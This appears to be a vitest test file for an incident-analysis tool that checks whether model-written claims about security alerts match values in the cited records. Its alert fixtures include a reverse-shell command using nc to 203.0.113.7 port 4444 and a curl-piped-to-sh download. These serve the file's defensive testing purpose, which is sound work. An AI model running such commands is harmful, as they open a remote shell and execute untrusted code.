/** What a model says becomes claims: values are found in the records it cites, whatever marks it puts around them, and nowhere else. */
import { expect, it } from 'vitest'
import { groundClaim } from '../../incidents/grounding.ts'
import type { RecordReader } from '../../incidents/grounding.ts'
import { noon, process_, storedAlert } from '../../test/support/records.ts'
import { cited, type Said } from './cite.ts'

const [first, second] = ['019aa0f0-8d3c-7a51-9c11-4f0a52be8d01', '019aa0f0-8d3c-7a51-9c11-77d1c0a9e302']
const long = `curl -s http://203.0.113.7/${'a'.repeat(300)} | sh`
const alerts = [
  storedAlert(first, {
    eventNs: noon + 1_234_567n,
    rule: 'Run shell untrusted',
    process: process_({ cmdline: 'sh -c "nc -e /bin/sh 203.0.113.7 4444" `id`' }),
    fields: { 'user.uid': 0n, token: 'password=hunter2hunter2', hidden: 'ab\u202ecd', long },
  }),
  storedAlert(second, { eventNs: noon + 61_000_000_000n, rule: 'Read sensitive file untrusted' }),
]
const none = async () => undefined
const reader: RecordReader = {
  alert: async (id) => alerts.find((one) => one.id === id.toLowerCase()),
  entity: none,
  decision: async (id) =>
    id === 'd1'
      ? {
          id,
          at: new Date('2026-09-01T12:30:00Z'),
          principalId: 'p',
          reason: 'over',
          decision: { kind: 'state', incident: first, state: 'closed' },
          links: [],
        }
      : undefined,
  coverage: async (name) =>
    name === 'falco east 1' ? { name, collector: 'falco', scope: 'lab', lastSeenAt: new Date('2026-09-01T12:34:56.789Z') } : undefined,
  finding: none,
  step: none,
  incident: none,
  fielded: none,
}
const say = (text: string, cites: readonly string[] = [`alert:${first}`], kind: Said['kind'] = 'observation') =>
  cited({ text, kind, cites }, reader)
const holds = async (...given: Parameters<typeof say>) => (await groundClaim(await say(...given), reader)).grounded

it.each([
  ['in our marks', 'The command ⟦nc -e /bin/sh 203.0.113.7 4444⟧ ran.'],
  ['as code', 'It tied `/bin/sh` to `203.0.113.7`.'],
  ['in the fences of tools', 'Rule ⟪Run shell untrusted⟫ fired.'],
  ['with a backtick within', 'It ran ⟦sh -c "nc -e /bin/sh 203.0.113.7 4444" `id`⟧.'],
  ['in plain words', 'A shell was tied to 203.0.113.7 on port 4444 by user 0.'],
  ['as a time of day', 'At ⟦12:00:00⟧ it began.'],
  ['as a time with its zone', 'At ⟦2026-09-01 12:00:00 UTC⟧ and `12:00:00Z` it began.'],
  ['masked, as tools show it', 'It holds ⟦password=[redacted]⟧.'],
  ['escaped, as tools show it', 'It holds ⟦ab\\u{202e}cd⟧.'],
  ['cut, as tools show it', `It ran ⟦${long.slice(0, 200)}… [${long.length - 200} more]⟧.`],
  ['shortened', `It ran ⟦${long.slice(0, 150)}⟧…`],
])('finds a value %s', async (_how, text) => {
  expect(await holds(text)).toBe(true)
})

it.each([
  ['of another record', 'Rule ⟦Read sensitive file untrusted⟧ fired.'],
  ['changed by a digit', 'It tied a shell to ⟦203.0.113.8⟧.'],
  ['changed by a digit in plain words', 'It tied a shell to 203.0.113.8.'],
  ['that is another port', 'A shell was tied to port 4445.'],
  ['that was counted', 'There were 507 alerts.'],
  ['cut elsewhere', `It ran ⟦${long.slice(0, 90)}… [${long.length - 91} more]⟧.`],
  ['that is a name', 'Pod checkout-7d9f was entered.'],
  ['that is a name of two parts', 'The deployment shop/checkout was entered.'],
  ['that is a flaw', 'CVE-2021-44228 was used.'],
  ['that is another time', 'At ⟦12:00:01⟧ it began.'],
  ['left open', 'It ran ⟦sh.'],
])('makes a hypothesis of a value %s', async (_how, text) => {
  expect(await holds(text)).toBe(false)
})

it('takes citations as models write them, and no others', async () => {
  for (const cite of [
    first,
    `alert:${first}`,
    `alert ${first}`,
    `[alert ${first.toUpperCase()}]`,
    `⟪alert ${first} rule⟫`,
    `\`alert/${first}\``,
  ])
    expect(await holds('Rule ⟦Run shell untrusted⟧ fired.', [cite]), cite).toBe(true)
  for (const cite of ['', 'alert:', 'alert:rule', `finding:${first}`, `alert:${second}`, 'the first alert'])
    expect(await holds('Rule ⟦Run shell untrusted⟧ fired.', [cite]), cite).toBe(false)
  expect(await holds('Nothing more was seen.', ['coverage:falco east 1'], 'absence')).toBe(true)
  expect(await holds('Nothing more was seen since ⟦2026-09-01T12:34:56⟧.', ['coverage:falco east 1'], 'absence')).toBe(true)
  expect(await holds('Nothing more was seen.', ['coverage:falco east 2'], 'absence')).toBe(false)
  expect(await holds('One led to the other.', [`alert:${first}`, `alert:${second}`], 'causal')).toBe(true)
  expect(await holds('One led to the other.', [`alert:${first}`, `alert:${first.toUpperCase()}`], 'causal')).toBe(false)
})

it('keeps plain words plain where a record bears them out, and cites where it stands', async () => {
  const claim = await say('A shell was tied to 203.0.113.7 on port 4444.')
  expect(claim.text).toBe('A shell was tied to 203.0.113.7 on port 4444.')
  expect(claim.evidence.map(({ path }) => path)).toEqual(['process.cmdline'])
})

it('finds what kind of decision it was', async () => {
  expect(await holds('A person decided on its ⟦state⟧: ⟦over⟧.', ['decision:d1'])).toBe(true)
  expect(await holds('A person decided on its ⟦verdict⟧: ⟦over⟧.', ['decision:d1'])).toBe(false)
})
